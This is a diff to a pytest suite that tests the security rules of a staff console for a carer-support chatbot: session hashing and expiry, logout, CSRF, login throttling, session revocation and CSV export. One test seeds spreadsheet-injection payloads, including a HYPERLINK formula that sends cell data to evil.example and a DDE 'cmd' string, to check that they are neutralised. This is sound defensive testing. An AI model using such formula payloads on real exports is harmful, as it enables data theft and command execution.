@@ -1,19 +1,24 @@
 """The staff console over HTTP, started as `make run` starts it: every security rule."""
 
+import csv
+import hashlib
+import io
 import json
+import os
 import re
+import subprocess
+import sys
 import time
 
 import pytest
 import requests
 import sqlalchemy as sa
-from itsdangerous import TimestampSigner, URLSafeTimedSerializer
 
 from bot.handoffs import Staff, Store
-from bot.stack import web_app
+from bot.stack import ROOT, web_app
 
-SECRET = "test-secret-key"
 PASSWORD = "correct-horse-42"
+NEW_PASSWORD = "battery-staple-77"
 
 
 @pytest.fixture(scope="module")
@@ -22,13 +27,13 @@ def console(tmp_path_factory):
     env = {
         "HANDOFF_DB_URL": f"sqlite:///{tmp}/handoff.db",
         "TRACKER_DB_URL": f"sqlite:///{tmp}/tracker.db",
-        "STAFF_SECRET_KEY": SECRET,
         "STAFF_MAX_LOGIN_FAILURES": "5",
     }
     store = Store(env["HANDOFF_DB_URL"])
     store.add_user("shoko1", PASSWORD, "shoko")
     store.add_user("kaigo1", PASSWORD, "kaigo_hoken")
     store.add_user("somu1", PASSWORD, "fukushi_somu")
+    store.add_user("idle1", PASSWORD, "shoko")
     shoko_case = store.create_handoff("conv-a", ["business_carer"], "employer", ["shoko", "koreisha_ikiiki"], False, "部下が親の介護")
     child_case = store.create_handoff("conv-b", ["young_carer"], "carer", ["kodomo_katei_soudan"], True, "中2、母の看病")
     # The tracker store's table, as Rasa's SQLTrackerStore writes it.
@@ -47,13 +52,45 @@ def _csrf(html: str) -> str:
     return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
 
 
-def login(console, username, password=PASSWORD) -> requests.Session:
+def login(console, username, password=PASSWORD, address=None) -> requests.Session:
     s = requests.Session()
+    if address:  # as nginx passes the client's address on
+        s.headers["X-Forwarded-For"] = address
     token = _csrf(s.get(f"{console['url']}/staff/login").text)
     r = s.post(f"{console['url']}/staff/login", data={"username": username, "password": password, "csrf_token": token},
                allow_redirects=False)
-    s.last_status = r.status_code
+    s.last_status, s.last_text = r.status_code, r.text
     return s
+
+
+def opens(url: str, session: requests.Session) -> bool:
+    """Return True when this session still opens the console (else it is sent to the login page)."""
+    r = session.get(f"{url}/staff/", allow_redirects=False)
+    assert r.status_code in (200, 302)
+    return r.status_code == 200
+
+
+def with_cookie(token: str) -> requests.Session:
+    s = requests.Session()
+    s.cookies.set("kc_staff", token, path="/staff")
+    return s
+
+
+def staff_command(env, *args: str, stdin: str = "") -> subprocess.CompletedProcess:
+    """Run `python -m bot.staff ...` on the console's database, as an administrator would."""
+    return subprocess.run([sys.executable, "-m", "bot.staff", *args], cwd=ROOT, input=stdin, capture_output=True, text=True,
+                          env={**os.environ, "HANDOFF_DB_URL": env["HANDOFF_DB_URL"]}, timeout=60)
+
+
+def set_session_times(store: Store, username: str, *, created_ago=None, seen_ago=None) -> None:
+    """Move the stored times of an account's sessions back, as if time had passed."""
+    with store.engine.begin() as c:
+        if created_ago is not None:
+            c.execute(sa.text("UPDATE staff_sessions SET created_at = :t WHERE username = :u"),
+                      {"t": time.time() - created_ago, "u": username})
+        if seen_ago is not None:
+            c.execute(sa.text("UPDATE staff_sessions SET last_seen = :t WHERE username = :u"),
+                      {"t": time.time() - seen_ago, "u": username})
 
 
 def test_wrong_password_is_refused_without_a_session(console):
@@ -68,8 +105,19 @@ def test_session_cookie_is_httponly_samesite_and_expires(console):
     token = _csrf(s.get(f"{console['url']}/staff/login").text)
     r = s.post(f"{console['url']}/staff/login", data={"username": "shoko1", "password": PASSWORD, "csrf_token": token},
                allow_redirects=False)
-    cookie = r.headers["Set-Cookie"].lower()
-    assert "kc_staff=" in cookie and "httponly" in cookie and "samesite=strict" in cookie and "max-age=" in cookie
+    cookie = [c for c in r.raw.headers.getlist("Set-Cookie") if c.startswith("kc_staff=")][0].lower()
+    assert "httponly" in cookie and "samesite=strict" in cookie and "max-age=28800" in cookie and "path=/staff" in cookie
+
+
+def test_the_database_keeps_only_a_hash_of_the_session_token(console):
+    token = login(console, "shoko1").cookies["kc_staff"]
+    with console["store"].engine.connect() as c:
+        rows = [tuple(str(v) for v in row) for row in c.execute(sa.text("SELECT * FROM staff_sessions"))]
+        hashes = {h for (h,) in c.execute(sa.text("SELECT token_hash FROM staff_sessions"))}
+    assert not any(token in value for row in rows for value in row)
+    assert hashlib.sha256(token.encode()).hexdigest() in hashes
+    # Someone who read the database cannot use what is stored there.
+    assert not any(opens(console["url"], with_cookie(h)) for h in hashes)
 
 
 def test_login_needs_the_csrf_token(console):
@@ -77,23 +125,39 @@ def test_login_needs_the_csrf_token(console):
     assert r.status_code == 403
 
 
-def test_expired_session_goes_back_to_login(console):
-    class SignedNineHoursAgo(TimestampSigner):
-        def get_timestamp(self):
-            return int(time.time()) - 9 * 3600
-
-    old = URLSafeTimedSerializer(SECRET, salt="kc-staff-session", signer=SignedNineHoursAgo)
-    s = requests.Session()
-    s.cookies.set("kc_staff", old.dumps({"u": "shoko1", "c": "x"}), path="/staff")
+def test_session_ends_after_its_lifetime_even_when_used(console):
+    s = login(console, "idle1")
+    set_session_times(console["store"], "idle1", created_ago=8 * 3600 - 60, seen_ago=0)
+    assert opens(console["url"], s)
+    set_session_times(console["store"], "idle1", created_ago=8 * 3600 + 1, seen_ago=0)
     r = s.get(f"{console['url']}/staff/", allow_redirects=False)
     assert r.status_code == 302 and r.headers["Location"].endswith("/staff/login")
 
 
+def test_idle_session_ends_after_the_idle_timeout(console):
+    s = login(console, "idle1")
+    set_session_times(console["store"], "idle1", seen_ago=1700)
+    assert opens(console["url"], s)  # in use: the idle time starts again
+    set_session_times(console["store"], "idle1", seen_ago=1801)
+    assert not opens(console["url"], s)
+
+
 def test_forged_session_is_refused(console):
-    forged = URLSafeTimedSerializer("another-secret", salt="kc-staff-session").dumps({"u": "somu1", "c": "x"})
-    s = requests.Session()
-    s.cookies.set("kc_staff", forged, path="/staff")
-    assert s.get(f"{console['url']}/staff/", allow_redirects=False).status_code == 302
+    assert not opens(console["url"], with_cookie("x" * 43))
+    assert not opens(console["url"], with_cookie(""))
+
+
+def test_logout_ends_the_session_on_the_server_and_drops_the_cookie(console):
+    s = login(console, "shoko1")
+    saved = s.cookies["kc_staff"]
+    token = _csrf(s.get(f"{console['url']}/staff/").text)
+    r = s.post(f"{console['url']}/staff/logout", data={"csrf_token": token}, allow_redirects=False)
+    dropped = [c for c in r.raw.headers.getlist("Set-Cookie") if c.startswith("kc_staff=")][0].lower()
+    # The same path and attributes as when it was set, or the browser keeps the cookie.
+    assert "path=/staff" in dropped and "max-age=0" in dropped and "httponly" in dropped and "samesite=strict" in dropped
+    assert not opens(console["url"], s)
+    assert not opens(console["url"], with_cookie(saved))  # a copy kept from before the logout
+    assert ("shoko1", "logout") in {(e["username"], e["action"]) for e in console["store"].audit_log()}
 
 
 def test_a_section_sees_its_cases_and_gets_404_for_others(console):
@@ -150,6 +214,24 @@ def test_csv_export_has_a_bom_and_only_visible_rows(console):
     assert console["child"] not in text
 
 
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(console):
+    store = console["store"]
+    evil = [
+        ('=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81 90 1234 5678"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
+        ("\t=1+1", "\r=1+1"),
+    ]
+    refs = [store.create_handoff(f"conv-evil-{i}", [], "carer", ["seishonen"], False, summary, contact)["ref"]
+            for i, (summary, contact) in enumerate(evil)]
+    r = login(console, "somu1").get(f"{console['url']}/staff/export.csv")
+    assert r.headers["Cache-Control"] == "no-store"
+    rows = {row[0]: row for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))}
+    for ref, (summary, contact) in zip(refs, evil):
+        assert rows[ref][7] == "'" + summary and rows[ref][8] == "'" + contact
+    # Ordinary text is left as it is.
+    assert rows[console["child"]][7] == "中2、母の看病"
+
+
 def test_filters(console):
     s = login(console, "somu1")
     assert console["shoko"] not in s.get(f"{console['url']}/staff/?crisis=1").text
@@ -174,3 +256,133 @@ def test_login_attempts_are_limited(console):
     with web_app(console["env"]) as other:
         assert login({"url": other}, "kaigo1", PASSWORD).last_status == 429
         assert login({"url": other}, "somu1", PASSWORD).last_status == 429  # and the address is held back too
+    # Not behind a configured proxy (WEB_PROXIES_COUNT unset): a made-up X-Forwarded-For is not a new address.
+    assert login(console, "somu1", PASSWORD, address="198.51.100.23").last_status == 429
+
+
+# --- the login limiter behind a proxy (nginx passes the client's address on) --------------------
+
+
+@pytest.fixture(scope="module")
+def proxied(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("proxied")
+    env = {"HANDOFF_DB_URL": f"sqlite:///{tmp}/handoff.db", "TRACKER_DB_URL": f"sqlite:///{tmp}/tracker.db",
+           "WEB_PROXIES_COUNT": "1", "STAFF_MAX_LOGIN_DELAY_SECONDS": "2"}  # a short cap, so that the test is short
+    store = Store(env["HANDOFF_DB_URL"])
+    store.add_user("target1", PASSWORD, "shoko")
+    store.add_user("target2", PASSWORD, "shoko")
+    with web_app(env) as url:
+        yield {"url": url}
+
+
+def test_failures_on_an_account_only_slow_it_down(proxied):
+    attacker = (f"203.0.113.{i}" for i in range(1, 200))  # a new address for every guess: never blocked by address
+    for _ in range(5):
+        assert login(proxied, "target1", "wrong-guess-0", next(attacker)).last_status == 401
+    # After 5 failures the next attempt waits 2^0 s after the last one, from any address, right password or not.
+    held = login(proxied, "target1", PASSWORD, "198.51.100.7")
+    assert held.last_status == 429 and "秒ほど待って" in held.last_text
+    time.sleep(1.1)
+    assert login(proxied, "target1", "wrong-guess-1", next(attacker)).last_status == 401  # 6 failures: 2 s
+    assert login(proxied, "target1", "wrong-guess-2", next(attacker)).last_status == 429  # refused, not counted
+    time.sleep(2.1)
+    assert login(proxied, "target1", "wrong-guess-2", next(attacker)).last_status == 401  # 7 failures: 4 s, capped at 2 s
+    assert login(proxied, "target1", PASSWORD, "198.51.100.7").last_status == 429
+    time.sleep(2.1)
+    # The member of staff gets in from their own address after at most the capped delay.
+    assert login(proxied, "target1", PASSWORD, "198.51.100.7").last_status == 302
+
+
+def test_an_address_is_blocked_after_five_failures(proxied):
+    for i in range(5):
+        assert login(proxied, f"nobody{i}", "wrong-guess-0", "192.0.2.66").last_status == 401
+    assert login(proxied, "target2", PASSWORD, "192.0.2.66").last_status == 429  # even the right password
+    assert login(proxied, "target2", PASSWORD, "192.0.2.67").last_status == 302  # another address is not held back
+
+
+# --- two web processes on one database ------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def pair(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("pair")
+    env = {"HANDOFF_DB_URL": f"sqlite:///{tmp}/handoff.db", "TRACKER_DB_URL": f"sqlite:///{tmp}/tracker.db"}
+    store = Store(env["HANDOFF_DB_URL"])
+    for name in ("anna1", "ben1", "chika1", "dai1"):
+        store.add_user(name, PASSWORD, "shoko")
+    store.add_user("kanri1", PASSWORD, "fukushi_somu", is_admin=True)
+    with web_app(env) as a, web_app(env) as b:
+        yield {"a": a, "b": b, "env": env, "store": store}
+
+
+def token_on(url: str, username: str, password: str = PASSWORD) -> str:
+    s = login({"url": url}, username, password)
+    assert s.last_status == 302
+    return s.cookies["kc_staff"]
+
+
+def live(pair, token: str) -> list:
+    """Whether the session opens the console on process A and on process B."""
+    return [opens(pair[p], with_cookie(token)) for p in ("a", "b")]
+
+
+def test_a_new_password_ends_the_sessions_on_both_web_processes(pair):
+    on_a, on_b, other = token_on(pair["a"], "anna1"), token_on(pair["b"], "anna1"), token_on(pair["a"], "ben1")
+    assert live(pair, on_a) == live(pair, on_b) == [True, True]
+    done = staff_command(pair["env"], "set-password", "anna1", "--password-stdin", stdin=NEW_PASSWORD + "\n")
+    assert done.returncode == 0, done.stderr
+    assert live(pair, on_a) == live(pair, on_b) == [False, False]
+    assert live(pair, other) == [True, True]  # another account's session goes on
+    assert login({"url": pair["b"]}, "anna1", PASSWORD).last_status == 401
+    assert login({"url": pair["a"]}, "anna1", NEW_PASSWORD).last_status == 302
+
+
+def test_a_disabled_account_is_logged_out_everywhere_and_cannot_log_in(pair):
+    on_a, on_b = token_on(pair["a"], "chika1"), token_on(pair["b"], "chika1")
+    assert staff_command(pair["env"], "disable-user", "chika1").returncode == 0
+    assert live(pair, on_a) == live(pair, on_b) == [False, False]
+    assert login({"url": pair["a"]}, "chika1").last_status == 401
+    assert login({"url": pair["b"]}, "chika1").last_status == 401
+    assert staff_command(pair["env"], "enable-user", "chika1").returncode == 0
+    assert live(pair, token_on(pair["b"], "chika1")) == [True, True]
+    actions = {(e["action"], e["detail"]) for e in pair["store"].audit_log() if e["username"].startswith("cli:")}
+    assert {("disable_user", "chika1"), ("enable_user", "chika1")} <= actions
+    assert staff_command(pair["env"], "disable-user", "nobody").returncode == 2
+
+
+def test_add_user_again_end_sessions_and_delete_user_end_sessions(pair):
+    env = pair["env"]
+    token = token_on(pair["a"], "dai1")
+    assert staff_command(env, "add-user", "dai1", "--section", "shoko", "--password-stdin", stdin=PASSWORD + "\n").returncode == 0
+    assert live(pair, token) == [False, False]  # a password reset
+
+    token, other = token_on(pair["a"], "dai1"), token_on(pair["b"], "ben1")
+    assert staff_command(env, "end-sessions", "dai1").returncode == 0
+    assert live(pair, token) == [False, False] and live(pair, other) == [True, True]
+
+    token = token_on(pair["b"], "dai1")
+    assert staff_command(env, "delete-user", "dai1").returncode == 0
+    assert live(pair, token) == [False, False]
+    assert login({"url": pair["a"]}, "dai1").last_status == 401
+
+    assert staff_command(env, "end-sessions").returncode == 0  # every account's
+    assert live(pair, other) == [False, False]
+
+
+def test_an_admin_ends_every_session_from_the_console(pair):
+    staff_session = login({"url": pair["a"]}, "ben1")
+    ben = staff_session.cookies["kc_staff"]
+    # Not for a section's account: the page does not exist for it.
+    r = staff_session.post(f"{pair['a']}/staff/sessions/end", data={"csrf_token": _csrf(staff_session.get(f"{pair['a']}/staff/").text)})
+    assert r.status_code == 404 and live(pair, ben) == [True, True]
+
+    admin = login({"url": pair["b"]}, "kanri1")
+    page = admin.get(f"{pair['b']}/staff/audit").text
+    assert "すべてのセッションを終了する" in page
+    assert admin.post(f"{pair['b']}/staff/sessions/end", data={}).status_code == 403  # no CSRF token
+    assert live(pair, ben) == [True, True]
+    r = admin.post(f"{pair['b']}/staff/sessions/end", data={"csrf_token": _csrf(page)}, allow_redirects=False)
+    assert r.status_code == 302 and r.headers["Location"].endswith("/staff/login")
+    assert live(pair, ben) == [False, False]
+    assert not opens(pair["b"], admin)  # the admin's own session too
+    assert any(e["username"] == "kanri1" and e["action"] == "end_sessions" for e in pair["store"].audit_log())
